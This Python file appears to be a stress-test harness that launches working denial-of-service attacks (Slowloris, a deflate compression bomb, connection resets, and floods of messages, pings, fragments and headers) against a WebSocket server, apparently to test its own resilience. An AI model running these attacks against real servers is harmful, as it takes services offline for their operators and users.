"""The attackers of attack.py, in a process of their own. Attacks have a fixed rate, or (AtOnce)
send as much as they can.

``python attackers.py ADDRESS PORT ATTACK``; prints READY once the attack has begun, and ends with
its stdin. Its counts are printed at the end.
"""

from __future__ import annotations

import os
import random
import selectors
import socket
import struct
import sys
import threading
import time
import zlib
from collections import Counter
from collections.abc import Callable

TICK = 0.002
"""Seconds between two ticks. The rates are even: a burst and then a pause would be another
attack.
"""
RESET = struct.pack("ii", 1, 0)
MANY = 2000
CROWD = 400
HANDSHAKE = (
    b"GET / HTTP/1.1\r\nHost: localhost\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
    b"Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n"
)
DEFLATE = b"Sec-WebSocket-Extensions: permessage-deflate\r\n"


def frame(payload: bytes, opcode: int = 2, compressed: bool = False) -> bytes:
    """A masked frame, with a mask of zeros, which is valid."""
    head = bytes([0x80 | (0x40 if compressed else 0) | opcode])
    size = len(payload)
    if size < 126:
        head += bytes([0x80 | size])
    elif size < 65536:
        head += bytes([0x80 | 126]) + size.to_bytes(2)
    else:
        head += bytes([0x80 | 127]) + size.to_bytes(8)
    return head + bytes(4) + payload


class Attack:
    """Sockets, and what is done with them at each tick."""

    def __init__(self, address: tuple[str, int]) -> None:
        self.address = address
        self.socks: list[socket.socket] = []
        self.done: Counter[str] = Counter()
        self.began = time.monotonic()

    def connect(self, hello: bytes = b"", receive_buffer: int = 0) -> socket.socket:
        """A new connection that has sent `hello`, and is non-blocking from here on."""
        sock = socket.socket()
        if receive_buffer:
            sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, receive_buffer)
        sock.connect(self.address)
        if hello:
            sock.sendall(hello)
        sock.setblocking(False)
        self.done["connects"] += 1
        return sock

    def send(self, sock: socket.socket, data: bytes) -> int:
        """Send as much as the kernel takes; returns -1 if the connection is over."""
        try:
            sent = sock.send(data)
        except (BlockingIOError, InterruptedError):
            return 0
        except OSError:
            return -1
        self.done["bytes"] += sent
        return sent

    def begin(self) -> None:
        """Return once the attack has begun."""

    def tick(self, now: float) -> None:
        """Attack once; called every TICK seconds."""


class Slowloris(Attack):
    """Handshakes that never end, with a byte now and then; a client that is cut off connects
    again.
    """

    def begin(self) -> None:
        self.socks = [self.connect(b"GET / HTTP/1.1\r\nHost: ") for _ in range(MANY)]

    def tick(self, now: float) -> None:
        for index in random.sample(range(MANY), MANY // 500):
            sock = self.socks[index]
            try:
                over = sock.recv(4096) is not None
            except BlockingIOError:
                over = False
            except OSError:
                over = True
            if over or self.send(sock, b"x") < 0:
                sock.close()
                self.done["cut off"] += 1
                self.socks[index] = self.connect(b"GET / HTTP/1.1\r\nHost: ")


class NeverRead(Attack):
    """WebSockets that ask for echoes and never read one."""

    def begin(self) -> None:
        self.socks = [self.connect(HANDSHAKE + b"\r\n", 2048) for _ in range(MANY)]
        self._message = frame(b"x" * 4000)

    def tick(self, now: float) -> None:
        for index in random.sample(range(len(self.socks)), 1):
            if self.send(self.socks[index], self._message) < 0:
                self.done["cut off"] += 1
                self.socks[index].close()
                self.socks[index] = self.connect(HANDSHAKE + b"\r\n", 2048)


class Resets(Attack):
    """500 connects a second, each reset at once, some in the middle of their handshake."""

    def tick(self, now: float) -> None:
        while self.done["connects"] < 500 * (now - self.began):
            sock = self.connect(random.choice([b"", HANDSHAKE[:50], HANDSHAKE + b"\r\n", b"raw"]))
            sock.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, RESET)
            sock.close()


class Bomb(Attack):
    """Messages of a megabyte that inflate to a gigabyte, one every 100 ms."""

    def begin(self) -> None:
        press = zlib.compressobj(9, zlib.DEFLATED, -15)
        megabyte = bytes(1 << 20)
        packed = b"".join(press.compress(megabyte) for _ in range(1024))
        packed += press.flush(zlib.Z_SYNC_FLUSH)
        self._bomb = frame(packed[:-4], compressed=True)

    def tick(self, now: float) -> None:
        while self.done["connects"] < 10 * (now - self.began):
            sock = self.connect(HANDSHAKE + DEFLATE + b"\r\n")
            sock.settimeout(5.0)
            try:
                sock.sendall(self._bomb)
            except OSError:
                pass
            try:
                while data := sock.recv(65536):
                    self.done["answered 1009"] += b"\x03\xf1" in data
            except OSError:
                self.done["reset"] += 1
            sock.close()


class Flow(Attack):
    """One connection that sends at a rate, and reads and forgets all answers."""

    hello = b""
    rate = 0.0
    """Bytes a second."""
    chunk = b""

    def begin(self) -> None:
        self._sock = self.connect(self.hello)
        self._sock.setblocking(True)
        self._rest = b""
        self._due = 0.0
        threading.Thread(target=self._read, args=(self._sock,), daemon=True).start()
        if self.hello:
            time.sleep(0.5)
        self._sock.setblocking(True)
        self._sock.settimeout(0.001)
        self.began = time.monotonic()

    def _read(self, sock: socket.socket) -> None:
        buffer = bytearray(1 << 18)
        while True:
            try:
                got = sock.recv_into(buffer)
            except (TimeoutError, BlockingIOError):
                continue
            except OSError:
                return
            if not got:
                self.done["ended"] += 1
                return
            self.done["bytes back"] += got

    def tick(self, now: float) -> None:
        while self.done["bytes"] < self.rate * (now - self.began):
            if not self._rest:
                self._rest = self.chunk
            try:
                sent = self._sock.send(self._rest)
            except TimeoutError:
                return
            self.done["bytes"] += sent
            self._rest = self._rest[sent:]


class Garbage(Flow):
    """10 MB a second of random bytes over one raw connection."""

    rate = 10e6
    chunk = b"\xff" + os.urandom(65535)


class Flood(Flow):
    """50,000 messages a second over one WebSocket."""

    hello = HANDSHAKE + b"\r\n"
    chunk = frame(b"flood" * 12, opcode=1) * 100
    rate = 50_000 * len(chunk) / 100


class Pings(Flow):
    """20,000 empty pings a second over one WebSocket."""

    hello = HANDSHAKE + b"\r\n"
    chunk = frame(b"", opcode=9) * 100
    rate = 20_000 * len(chunk) / 100


class Pongs(Pings):
    """20,000 unsolicited pongs a second over one WebSocket."""

    chunk = frame(b"", opcode=10) * 100


class Fragments(Pings):
    """20,000 empty fragments a second of a message that never ends, over one WebSocket."""

    hello = HANDSHAKE + b"\r\n" + b"\x01\x80\0\0\0\0"
    chunk = b"\0\x80\0\0\0\0" * 100


class AtOnce(Attack):
    """400 WebSockets, each of which sends as many empty messages as it can."""

    block = frame(b"") * 10_000
    begins = b""

    def begin(self) -> None:
        self.socks = [self.connect(HANDSHAKE + b"\r\n" + self.begins) for _ in range(CROWD)]
        self._rests = [self.block] * CROWD

    def tick(self, now: float) -> None:
        for index, sock in enumerate(self.socks):
            sent = self.send(sock, self._rests[index])
            if sent < 0:
                self.done["cut off"] += 1
                self.socks[index] = self.connect(HANDSHAKE + b"\r\n" + self.begins)
                self._rests[index] = self.block
            elif sent:
                self._rests[index] = self._rests[index][sent:] or self.block
            try:
                self.done["bytes back"] += len(sock.recv(65536))
            except OSError:
                pass


class PingsAtOnce(AtOnce):
    """The same as AtOnce, with pings."""

    block = frame(b"", opcode=9) * 10_000


class FragmentsAtOnce(AtOnce):
    """The same as AtOnce, with empty fragments."""

    block = b"\0\x80\0\0\0\0" * 10_000
    begins = b"\x01\x80\0\0\0\0"


class HeadsAtOnce(Attack):
    """400 clients that send a request of 15 KiB at the same moment, twice a second."""

    _head = HANDSHAKE + b"".join(b"X-%02d: %s\r\n" % (n, b"x" * 150) for n in range(90)) + b"\r\n"

    def tick(self, now: float) -> None:
        if self.done["connects"] < CROWD * 2 * (now - self.began):
            for sock in self.socks:
                sock.close()
            self.socks = [self.connect() for _ in range(CROWD)]
            for sock in self.socks:
                self.send(sock, self._head)


ATTACKS: dict[str, Callable[[tuple[str, int]], Attack]] = {
    "slowloris": Slowloris,
    "never-read": NeverRead,
    "resets": Resets,
    "bomb": Bomb,
    "garbage": Garbage,
    "flood": Flood,
    "pings": Pings,
    "pongs": Pongs,
    "fragments": Fragments,
    "at-once": AtOnce,
    "pings-at-once": PingsAtOnce,
    "fragments-at-once": FragmentsAtOnce,
    "heads-at-once": HeadsAtOnce,
}


def main() -> None:
    """Attack until stdin ends."""
    address, port, name = sys.argv[1:]
    attack = ATTACKS[name]((address, int(port)))
    attack.begin()
    print("READY", flush=True)
    over = selectors.DefaultSelector()
    over.register(sys.stdin, selectors.EVENT_READ)
    while not over.select(TICK):
        attack.tick(time.monotonic())
    lasted = time.monotonic() - attack.began
    print(", ".join(f"{what} {count}" for what, count in attack.done.items()), f"in {lasted:.0f} s")


if __name__ == "__main__":
    main()
